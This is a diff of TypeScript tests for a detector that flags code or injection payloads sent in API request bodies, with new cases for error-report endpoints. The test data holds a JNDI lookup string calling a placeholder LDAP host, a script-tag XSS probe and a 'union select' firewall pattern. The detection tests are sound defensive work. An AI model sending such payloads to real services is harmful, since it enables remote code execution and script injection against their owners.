@@ -44,6 +44,19 @@ describe('ENG-04 code where an API takes code', () => {
       '/api/v2/logs',
       { message: 'agent ${jndi:ldap://x.example/a} refused' },
     ],
+    [
+      'the message of a report of an error, wherever it is sent',
+      '/api/17/store/',
+      {
+        message: `near ${STATEMENT}`,
+        exception: { values: [{ value: STATEMENT, stacktrace: { frames: [{ lineno: 4 }] } }] },
+      },
+    ],
+    [
+      'the title of one whose calls are a text',
+      '/v1/crash-data',
+      [{ title: `<script>alert(1)</script> in ${PAGE}`, stack_trace: 'at main.js:4' }],
+    ],
     ['a remark on code', '/repos/pulls/comments', { body: CODE }],
     ['a rule of a firewall', '/firewall/rules', { expression: 'query contains "union select"' }],
     ['a page', '/admin/pages', { page: { body_html: PAGE } }],
@@ -66,6 +79,16 @@ describe('ENG-04 code where an API takes code', () => {
     ['a statement in what is looked for in logs', '/logs/search', { value: STATEMENT }],
     ['a statement in the code of a worker', '/workers', { code: STATEMENT }],
     ['markup in the content of a report', '/reports/generate', { content: PAGE }],
+    [
+      'a statement in what a report of an error says of who',
+      '/api/17/store/',
+      { user: { name: STATEMENT }, stacktrace: [] },
+    ],
+    [
+      'a statement in a message without the calls that led to it',
+      '/api/17/store/',
+      { message: STATEMENT },
+    ],
     ['a lookup in a name', '/api/v2/logs', { service: '${jndi:ldap://x.example/a}' }],
   ] as const)
     it(`is one as ${what}`, () => assert.equal(isSuspect(path, body), true));
@@ -92,38 +115,43 @@ describe('ENG-04 code where an API takes code', () => {
     assert.equal(first(404), true);
   });
 
+  const parameter = (name: string) => ({
+    side: 'request' as const,
+    location: 'body' as const,
+    name,
+    contentType: 'application/json',
+    occurrences: 500,
+    opportunities: 500,
+    type: 'string' as const,
+    otherTypes: [],
+    format: null,
+    confidence: 1,
+    distinctValues: 300,
+    enumValues: null,
+    range: null,
+    length99: 60,
+    charClasses: [],
+    usualClasses: [],
+    required: true,
+    isMap: false,
+    objectId: false,
+  });
+  /** Whether a body is suspect at an endpoint that is known well, and known to take some fields. */
+  function isSuspectAt(path: string, known: readonly string[], body: unknown): boolean {
+    const options = { requests: 500, isAvailable: true };
+    const baseline = baselineOf(known.map(parameter) as never, options);
+    const exchange = exampleExchange({ method: 'POST', path, requestBody: exampleJson(body) });
+    return suspectFields(exchange, [], baseline, []).length > 0;
+  }
+
   it('is one in a field that a well-known endpoint never had', () => {
-    const parameter = (name: string) => ({
-      side: 'request' as const,
-      location: 'body' as const,
-      name,
-      contentType: 'application/json',
-      occurrences: 500,
-      opportunities: 500,
-      type: 'string' as const,
-      otherTypes: [],
-      format: null,
-      confidence: 1,
-      distinctValues: 300,
-      enumValues: null,
-      range: null,
-      length99: 60,
-      charClasses: [],
-      usualClasses: [],
-      required: true,
-      isMap: false,
-      objectId: false,
-    });
-    const of = (name: string): boolean => {
-      const baseline = baselineOf([parameter(name)] as never, { requests: 500, isAvailable: true });
-      const exchange = exampleExchange({
-        method: 'POST',
-        path: '/admin/pages',
-        requestBody: exampleJson({ body_html: PAGE }),
-      });
-      return suspectFields(exchange, [], baseline, []).length > 0;
-    };
-    assert.equal(of('body_html'), false);
-    assert.equal(of('title'), true);
+    assert.equal(isSuspectAt('/admin/pages', ['body_html'], { body_html: PAGE }), false);
+    assert.equal(isSuspectAt('/admin/pages', ['title'], { body_html: PAGE }), true);
+  });
+
+  it('is one in a message that somebody makes look like a report of an error', () => {
+    const report = { message: STATEMENT, stacktrace: 'at main.js:4' };
+    assert.equal(isSuspectAt('/store-17', ['message', 'stacktrace'], report), false);
+    assert.equal(isSuspectAt('/store-17', ['message'], report), true);
   });
 });
